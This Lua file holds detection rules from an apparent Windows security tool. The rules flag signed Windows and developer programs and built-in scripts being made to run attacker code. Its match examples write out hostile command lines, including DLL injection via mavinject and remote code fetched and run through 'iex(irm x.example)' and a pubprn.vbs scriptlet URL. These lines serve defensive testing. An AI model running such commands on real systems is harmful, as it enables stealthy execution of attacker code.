-- Programs of Windows and of its makers' kits that run what they are told, besides those that have a rule of their own
-- (lolbins.lua): the table of `kaiseki.windows.lolbins`, one rule for each kind.

local asked = require "kaiseki.detect.asked"
local command = require "kaiseki.detect.command"
local places = require "kaiseki.detect.places"
local standing = require "kaiseki.detect.standing"
local tools = require "kaiseki.detect.tools"
local trusted = require "kaiseki.detect.trusted"
local lolbins = require "kaiseki.windows.lolbins"

local runs, compiles, scripts = asked.new(), asked.new(), asked.new()

-- Tells of the first command that a row speaks of; `ask` gives what it names and its technique.
local function teller(commands, ask)
    return function(event, case)
        for _, each in ipairs(command.all(event.child.command_line)) do
            local target, technique = ask(each, case)
            if target then
                commands:tell(case, event, { key = each.program .. " " .. target, technique = technique })
                return
            end
        end
    end
end

local function statement(finding)
    local program, target = finding.key:match "^(%S+) (.*)$"
    local verb = tools.verb(finding, "run-with-tool", program)
    local facts = { verb }
    if verb == "run-with-tool" then facts.name, facts.through = program, tools.through(finding) end
    facts[tools.role_of(target)] = target
    return facts
end

-- Developers and installed programs use the same tools for what is theirs.
local function excuse(finding, case)
    local mild, why = standing.of(case, finding.process)
    if mild == "low" then return mild, why end
    if tools.in_tree(finding) then return nil end
    return trusted.is_bystander(case, finding.process) and "low" or "medium"
end

local function is_run(by)
    return function(each, case)
        local target, row = tools.told(by, each, case)
        return target, row and row[2]
    end
end

rule {
    id = "stealth.proxy-program",
    title = "Program of Windows or of a developer's kit made to run something",
    severity = "high",
    attack = tools.techniques(lolbins.RUNS),
    description = "A program that is signed and trusted, and seldom used, is told to run a file from a user's folder, "
        .. "from another machine or from the web, or to put it into another process.",
    references = { "https://attack.mitre.org/techniques/T1218/", "https://attack.mitre.org/techniques/T1127/",
                   "https://lolbas-project.github.io/" },
    false_positives = { "Developers, and administrators who package programs." },
    author = "kaiseki",
    match = operation:is "Process Create" & child.command_line:contains(tools.names(lolbins.RUNS)),
    on_event = teller(runs, is_run(tools.by_program(lolbins.RUNS))),
    on_complete = runs.complete,
    excuse = excuse,
    finding = statement,
    examples = {
        match = {
            tools.example [[mavinject.exe 3110 /INJECTRUNNING C:\Users\Public\a.dll]],
            tools.example [[wuauclt.exe /UpdateDeploymentProvider C:\Users\Public\a.dll /RunHandlerComServer]],
            tools.example [[ssh -o ProxyCommand=C:\Users\Public\a.exe x]],
            tools.example [[cmd /c hh.exe http://203.0.113.5/a.chm]],
            tools.example [[mmc.exe "C:\Users\x\Downloads\report.msc"]],
        },
        no_match = {
            tools.example [[hh.exe C:\Program Files\Tool\manual.chm]], tools.example [[ssh admin@server.example]],
            tools.example [[mmc.exe C:\Windows\System32\compmgmt.msc]], tools.example [[wuauclt.exe /detectnow]],
            tools.example [[dotnet build C:\Users\x\source\a.csproj]],
        },
    },
}

rule {
    id = "stealth.compiled-here",
    title = "Source text compiled on the machine",
    severity = "medium",
    attack = tools.techniques(lolbins.COMPILES),
    description = "A compiler of Windows makes a program from a text in a user's folder, so that no program needs to "
        .. "be brought. What .NET programs have compiled for themselves, by a file of options, is left out.",
    references = { "https://attack.mitre.org/techniques/T1027/004/" },
    false_positives = { "Developers." },
    author = "kaiseki",
    match = operation:is "Process Create" & child.command_line:contains(tools.names(lolbins.COMPILES)),
    on_event = teller(compiles, is_run(tools.by_program(lolbins.COMPILES))),
    on_complete = compiles.complete,
    excuse = excuse,
    finding = statement,
    examples = {
        match = { tools.example [[csc.exe /out:C:\Users\Public\z.exe C:\Users\Public\z.cs]] },
        no_match = {
            tools.example [[csc.exe /noconfig /fullpaths @"C:\Users\x\AppData\Local\Temp\k3jd8sk1.cmdline"]],
            tools.example [[csc.exe /out:D:\build\z.exe D:\build\z.cs]],
        },
    },
}

local SCRIPTS, SCRIPT_NAMES = {}, {}
for _, row in ipairs(lolbins.SCRIPTS) do
    SCRIPTS[row[1]], SCRIPT_NAMES[#SCRIPT_NAMES + 1] = row[2], row[1]
end

-- What a script of Windows is given to run: an address, a file, or commands behind a semicolon.
local function script_told(each, case)
    for at = 1, #each.words do
        local technique = SCRIPTS[places.name(each.words[at]:gsub("['\"]", ""))]
        if technique then
            local target = each.text:match "script:[^%s\"']+" or tools.foreign(each, case)
                or (each.text:find(";", 1, true) and each.text) or each.folded:match "format:pretty" and each.text
            if target then return target, technique end
        end
    end
    return nil
end

rule {
    id = "stealth.proxy-script",
    title = "Script of Windows made to run something",
    severity = "high",
    attack = tools.techniques(lolbins.SCRIPTS),
    description = "A script that Windows brings is told to run commands or code from elsewhere, which so run in the "
        .. "name of a trusted script.",
    references = { "https://attack.mitre.org/techniques/T1216/" },
    false_positives = { "None known." },
    author = "kaiseki",
    match = operation:is "Process Create" & child.command_line:contains(SCRIPT_NAMES),
    on_event = teller(scripts, script_told),
    on_complete = scripts.complete,
    finding = statement,
    examples = {
        match = {
            tools.example [[wscript.exe C:\Windows\System32\SyncAppvPublishingServer.vbs "n; iex(irm x.example)"]],
            tools.example [[cscript pubprn.vbs 127.0.0.1 script:https://x.example/a.sct]],
        },
        no_match = { tools.example [[cscript C:\Windows\System32\winrm.vbs quickconfig]] },
    },
}
